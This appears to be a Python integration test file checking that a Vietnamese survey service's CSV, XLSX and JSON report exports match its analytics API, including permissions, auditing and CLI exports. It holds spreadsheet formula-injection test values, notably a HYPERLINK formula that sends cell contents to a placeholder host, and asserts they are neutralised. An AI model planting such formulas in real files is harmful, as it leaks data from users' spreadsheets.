"""Analytics reports as CSV, XLSX and JSON files, read back and compared with the API.

Every file is parsed with an independent reader (the csv module, openpyxl,
json) and its numbers compared with those of ``/api/v1/analytics/{report}``
for the same parameters.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from forms_service.reports.registry import REPORTS
from tests.integration.commands.test_cli import phieu
from tests.integration.conftest import Api
from tests.integration.reports_setup import H26, H29, agency_with_keys, get, ratings, submit

A, B = "1.001193", "2.001610"
EVIL_SERVICE = '=HYPERLINK("http://x.example/?"&A1,"Cấp phép")'
EVIL_AGENCY = "=1+2 Sở Tư pháp"
TODAY = re.compile(r"\d{4}-\d{2}-\d{2}")


@pytest.fixture
async def survey(api: Api) -> dict[str, str]:
    """H29 with two services (one named like a formula), 61 and 30 responses."""
    keys = await agency_with_keys(api, H29, "UBND tỉnh Hải Dương")
    await api.service(keys["designer"], A)
    r = await api.call("POST", "/api/v1/services", keys["designer"], json={
        "code": B, "name": EVIL_SERVICE, "audience": "business", "delivery": "full_online"})
    assert r.status_code == 201, r.text
    await api.published_form(keys["designer"], "hai-long", template="quick-rating")
    await submit(api, keys["portal"], "hai-long", A, ratings(57, 4))
    await submit(api, keys["portal"], "hai-long", B, ratings(24, 6))
    return keys


async def download(api: Api, key: str, report: str, **params: Any) -> tuple[Any, bytes]:
    r = await api.call("GET", f"/api/v1/exports/{report}", key, params=params)
    assert r.status_code == 200, r.text
    return r, r.content


def read_csv(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # a BOM, for Excel
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def number(text: str) -> float | None:
    return None if text == "" else float(text)


async def test_satisfaction_csv_matches_the_api(api: Api, survey: dict[str, str]) -> None:
    body = await get(api, survey["analyst"], "/api/v1/analytics/satisfaction", locale="vi")
    r, content = await download(api, survey["analyst"], "satisfaction")
    disposition = r.headers["content-disposition"]
    # no period chosen: all periods, said in the file name
    match = re.fullmatch(r'attachment; filename="phieu-satisfaction-all-periods-(.+)\.csv"',
                         disposition)
    assert match and TODAY.fullmatch(match.group(1)), disposition
    assert r.headers["content-type"].startswith("text/csv")
    lines = content.decode("utf-8-sig").split("\r\n")
    assert lines[0].startswith("Khóa,Nhóm,Mã thủ tục,Dịch vụ,Mã cơ quan")  # vi headers
    rows = read_csv(content)
    assert [row["Khóa"] for row in rows] == [row["key"] for row in body["rows"]]
    for row, expected in zip(rows, body["rows"], strict=True):
        assert int(row["Số trả lời"]) == expected["n"]
        assert int(row["Hài lòng"]) == expected["satisfied"]
        assert number(row["Tỷ lệ"]) == expected["rate"]
        assert number(row["Khoảng tin cậy, cận dưới"]) == expected["ci_low"]
        assert number(row["Giá trị p"]) == expected["pvalue"]
        assert number(row["Giá trị p đã hiệu chỉnh"]) == expected["pvalue_adjusted"]
        assert number(row["Tỷ lệ ước lượng co"]) == expected["shrunk_rate"]
        assert row["Mã kết luận"] == expected["verdict"]
        assert row["Kết luận"] == expected["verdict_text"]
        assert row["Tỷ lệ (định dạng)"] == expected["rate_text"]  # "93,4%"
    by_code = {row["Mã thủ tục"]: row for row in rows}
    assert by_code[A]["Dịch vụ"] == f"Thủ tục {A}"  # Vietnamese intact
    assert by_code[A]["Tỷ lệ (định dạng)"] == "93,4%"
    assert by_code[B]["Dịch vụ"] == "'" + EVIL_SERVICE  # shown, never run
    assert "Kỳ" not in rows[0] and "Biểu mẫu" not in rows[0]  # columns without values


async def test_satisfaction_xlsx_and_json_match_the_api(api: Api, survey: dict[str, str]) -> None:
    params = {"group_by": "service,year", "locale": "en"}
    body = await get(api, survey["analyst"], "/api/v1/analytics/satisfaction", **params)
    r, content = await download(api, survey["analyst"], "satisfaction", format="xlsx", **params)
    assert r.headers["content-type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert r.headers["content-disposition"].endswith('.xlsx"')
    book = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    assert book.sheetnames == ["Satisfaction", "About"]
    values = list(book["Satisfaction"].iter_rows(values_only=True))
    header, rows = list(values[0]), values[1:]
    assert header[:3] == ["Period", "Key", "Group"]
    assert len(rows) == len(body["rows"])
    for row, expected in zip(rows, body["rows"], strict=True):
        got = dict(zip(header, row, strict=True))
        assert got["Period"] == expected["period"] and got["Key"] == expected["key"]
        assert (got["Answers"], got["Satisfied"]) == (expected["n"], expected["satisfied"])
        for column, field in (("Rate", "rate"), ("Interval, upper bound", "ci_high"),
                              ("p-value", "pvalue"), ("Shrunk rate", "shrunk_rate")):
            assert got[column] == pytest.approx(expected[field], rel=1e-14), column
        assert got["Rate (formatted)"] == expected["rate_text"]  # "93.4%"
    services = {dict(zip(header, row, strict=True))["Service code"]:
                dict(zip(header, row, strict=True))["Service"] for row in rows}
    assert services[B] == "'" + EVIL_SERVICE and services[A] == f"Thủ tục {A}"
    about = dict(book["About"].iter_rows(values_only=True))
    assert about["Report"] == "satisfaction" and about["Group by (group_by)"] == "service,year"

    r, content = await download(api, survey["analyst"], "satisfaction", format="json", **params)
    assert r.headers["content-disposition"].endswith('.json"')
    assert json.loads(content) == body


async def test_reports_with_several_tables(api: Api) -> None:
    keys = await agency_with_keys(api, H29, "UBND tỉnh Hải Dương")
    await api.service(keys["designer"], A)
    await api.published_form(keys["designer"], "truyen-thong", template="communication",
                             access="open")
    answers = ([{"heard_from": ["tv"], "submission": "self", "overall": 5}] * 12
               + [{"heard_from": ["zalo"], "submission": "with_help", "overall": 2}] * 8)
    await submit(api, keys["portal"], "truyen-thong", A, answers)
    start = (dt.datetime.now(dt.UTC) + dt.timedelta(days=2)).date().isoformat()
    params = {"form": "truyen-thong", "campaign_start": start}
    body = await get(api, keys["analyst"], "/api/v1/analytics/communication", locale="vi",
                     **params)

    _, content = await download(api, keys["analyst"], "communication", format="xlsx", **params)
    book = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    assert book.sheetnames == ["Mức độ tiếp cận", "Kết quả theo kênh", "Trước và sau",
                               "Thông tin"]
    reach = list(book["Mức độ tiếp cận"].iter_rows(values_only=True))
    assert len(reach) - 1 == len(body["reach"])
    for row, expected in zip(reach[1:], body["reach"], strict=True):
        assert row[:3] == (expected["channel"], expected["label"], expected["reached"])
    effects = list(book["Kết quả theo kênh"].iter_rows(values_only=True))
    header = effects[0]
    assert "Trong số được tiếp cận: tỷ lệ" in header
    assert "Trong số không được tiếp cận: cận trên" in header
    assert len(effects) - 1 == len(body["effects"])
    for row, expected in zip(effects[1:], body["effects"], strict=True):
        got = dict(zip(header, row, strict=True))
        assert got["Mã kênh"] == expected["channel"]
        assert got["Mã kết quả"] == expected["outcome"]
        assert got["Chênh lệch"] == pytest.approx(expected["difference"]["difference"],
                                                 rel=1e-14, nan_ok=True)
    assert len(list(book["Trước và sau"].iter_rows(values_only=True))) - 1 == len(
        body["before_after"])

    _, content = await download(api, keys["analyst"], "communication", **params)
    rows = read_csv(content)
    sections = [row["Phần"] for row in rows]
    assert sections == (["reach"] * len(body["reach"]) + ["effects"] * len(body["effects"])
                        + ["before_after"] * len(body["before_after"]))
    tv = next(row for row in rows if row["Phần"] == "reach" and row["Mã kênh"] == "tv")
    expected_tv = next(r for r in body["reach"] if r["channel"] == "tv")
    assert int(tv["Số người được tiếp cận"]) == expected_tv["reached"] == 12
    assert number(tv["Tỷ lệ"]) == expected_tv["share"]


async def test_rankings_online_rate_and_excellence(api: Api) -> None:
    await api.agency(H29, EVIL_AGENCY, "province")
    await api.agency(H26, "UBND tỉnh Hưng Yên", "province")
    scores = {"period": "2023", "scores": [{"agency": H29, "score": 91.5},
                                           {"agency": H26, "score": 91.5}]}
    r = await api.call("POST", "/api/v1/analytics/quality-scores", api.admin, json=scores)
    assert r.status_code == 201, r.text
    national = await api.make_key("analyst")
    body = await get(api, national, "/api/v1/analytics/rankings", period="2023", locale="vi")
    _, content = await download(api, national, "rankings", period="2023", format="xlsx")
    book = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    assert book.sheetnames == ["Xếp hạng", "Mức độ", "Thông tin"]
    ranked = list(book["Xếp hạng"].iter_rows(values_only=True))
    assert ranked[0] == ("Loại cơ quan", "Bảng", "Hạng", "Mã cơ quan", "Cơ quan", "Điểm",
                         "Mức độ")
    expected = [row for block in body["blocks"] for row in block["rows"]]
    assert [(r[2], r[3], r[5], r[6]) for r in ranked[1:]] == [
        (e["rank"], e["agency"], e["score"], e["grade"]) for e in expected]
    assert {r[4] for r in ranked[1:]} == {"'" + EVIL_AGENCY, "UBND tỉnh Hưng Yên"}
    assert [r[2] for r in ranked[1:]] == [1, 1]  # a tie
    grades = list(book["Mức độ"].iter_rows(values_only=True))
    assert grades[1][2:] == ("A", 2, 1.0, "Mức độ A: 2/2 (100%)")

    # online rate: dossier statistics of a service
    designer = await api.make_key("designer", H29)
    await api.service(designer, A)
    stats = {"period": "2025-Q1", "online_dossiers": 45, "total_dossiers": 100,
             "self_submitted_dossiers": 9}
    r = await api.call("POST", f"/api/v1/services/{A}/dossier-stats", designer, json=stats)
    assert r.status_code == 201, r.text
    body = await get(api, national, "/api/v1/analytics/online-rate", locale="en")
    _, content = await download(api, national, "online-rate", locale="en")
    rows = read_csv(content)
    assert len(rows) == len(body["rows"]) == 1
    row, expected = rows[0], body["rows"][0]
    assert row["Agency"] == "'" + EVIL_AGENCY and row["Period"] == "2025-Q1"
    assert (int(row["Online dossiers"]), int(row["Total dossiers"])) == (45, 100)
    assert number(row["Online share"]) == expected["online_share"] == 0.45
    assert number(row["Interval, lower bound"]) == expected["online_ci_low"]
    assert row["Meets the target"] == "0" and row["Online share (formatted)"] == "45.0%"

    # excellence: one table, the evidence flattened
    body = await get(api, national, "/api/v1/analytics/excellence", agency=H29, year=2025)
    _, content = await download(api, national, "excellence", agency=H29, year=2025)
    rows = read_csv(content)
    everyone = body["citizen"] + body["business"] + body["excluded"]
    assert [row["Mã thủ tục"] for row in rows] == [c["service"] for c in everyone]
    assert int(rows[0]["Hồ sơ trực tuyến"]) == everyone[0]["evidence"]["online_dossiers"] == 45


async def test_who_may_export_and_bad_requests(api: Api, survey: dict[str, str]) -> None:
    other = await agency_with_keys(api, H26, "UBND tỉnh Hưng Yên", roles=("analyst",))
    r = await api.call("GET", "/api/v1/exports/satisfaction", other["analyst"],
                       params={"agency": H29})
    assert r.status_code == 403 and r.json()["error"] == "forbidden"
    _, content = await download(api, other["analyst"], "satisfaction")
    assert read_csv(content) == []  # its own agency: no responses
    for role in ("portal", "designer"):
        r = await api.call("GET", "/api/v1/exports/satisfaction", survey[role])
        assert r.status_code == 403, role
    r = await api.call("GET", "/api/v1/exports/satisfaction")
    assert r.status_code == 401

    r = await api.call("GET", "/api/v1/exports/satisfactions", survey["analyst"])
    assert r.status_code == 404
    assert r.json()["message"] == ("Không có báo cáo satisfactions: các báo cáo là "
                                   f"{', '.join(REPORTS)}.")
    assert ", ".join(REPORTS).startswith("satisfaction, results, indices, crosstab, excellence")
    r = await api.call("GET", "/api/v1/exports/satisfaction", survey["analyst"],
                       params={"format": "pdf", "locale": "en"})
    assert r.status_code == 400
    assert r.json()["message"] == "format must be csv, xlsx or json."
    r = await api.call("GET", "/api/v1/exports/satisfaction", survey["analyst"],
                       params={"threshold": "2"})
    assert r.status_code == 400 and "threshold" in r.json()["message"]
    r = await api.call("GET", "/api/v1/exports/excellence", survey["analyst"])
    assert r.status_code == 400  # year is required, as in the analytics API
    # the raw-response export is still there beside the reports
    r = await api.call("GET", "/api/v1/exports/responses", survey["analyst"],
                       params={"form": "hai-long"})
    assert r.status_code == 200 and len(read_csv(r.content)) == 91


async def test_report_exports_are_audited(api: Api, survey: dict[str, str], ctx: Any) -> None:
    await download(api, survey["analyst"], "satisfaction", format="json")
    rows = await ctx.db.raw(
        "SELECT dataset, format, locale, row_count, completed FROM export_audit")
    assert [(r["dataset"], r["format"], r["locale"], r["row_count"], bool(r["completed"]))
            for r in rows] == [("satisfaction", "json", "vi", 2, True)]


def test_command_line_exports_a_report(env: dict[str, str], tmp_path: Path) -> None:
    phieu("agencies", "create", "--code", H29, "--name", "UBND tỉnh Hải Dương", "--kind",
          "province", env=env, cwd=tmp_path)
    (tmp_path / "scores.json").write_text(json.dumps(
        {"period": "2023", "scores": [{"agency": H29, "score": 88.5}]}), encoding="utf-8")
    phieu("report", "rankings", "--import", "scores.json", env=env, cwd=tmp_path)

    out = phieu("export", "report", "rankings", "--period", "2023", env=env, cwd=tmp_path)
    files = list(tmp_path.glob("phieu-rankings-*.csv"))
    assert len(files) == 1 and TODAY.fullmatch(files[0].stem.removeprefix("phieu-rankings-"))
    rows = read_csv(files[0].read_bytes())
    assert out.stdout.strip() == (
        f"exported {len(rows)} rows of the rankings report to {files[0].name}")
    ranked = [row for row in rows if row["Phần"] == "rankings"]
    assert [(r["Hạng"], r["Cơ quan"], r["Điểm"], r["Mức độ"]) for r in ranked] == [
        ("1", "UBND tỉnh Hải Dương", "88.5", "B")]
    assert [r["Dòng của phụ lục"] for r in rows if r["Phần"] == "grades"][1] == (
        "Mức độ B: 1/1 (100%)")

    phieu("export", "report", "rankings", "--period", "2023", "--format", "xlsx", "--locale",
          "en", "--output", "r.xlsx", env=env, cwd=tmp_path)
    book = openpyxl.load_workbook(tmp_path / "r.xlsx", read_only=True)
    assert book.sheetnames == ["Rankings", "Grades", "About"]
    assert list(book["Rankings"].iter_rows(values_only=True))[1][2:] == (
        1, H29, "UBND tỉnh Hải Dương", 88.5, "B")
    body = json.loads(phieu("export", "report", "rankings", "--period", "2023", "--format",
                            "json", "--output", "-", env=env, cwd=tmp_path).stdout)
    assert body["blocks"][0]["rows"][0]["score"] == 88.5

    refused = phieu("export", "report", "rankings", "--year", "2023", env=env, cwd=tmp_path,
                    check=False)
    assert refused.returncode == 2
    assert "the rankings report does not take --year" in refused.stderr
    unknown = phieu("export", "report", "ranking", env=env, cwd=tmp_path, check=False)
    assert unknown.returncode == 2 and "the reports are satisfaction" in unknown.stderr
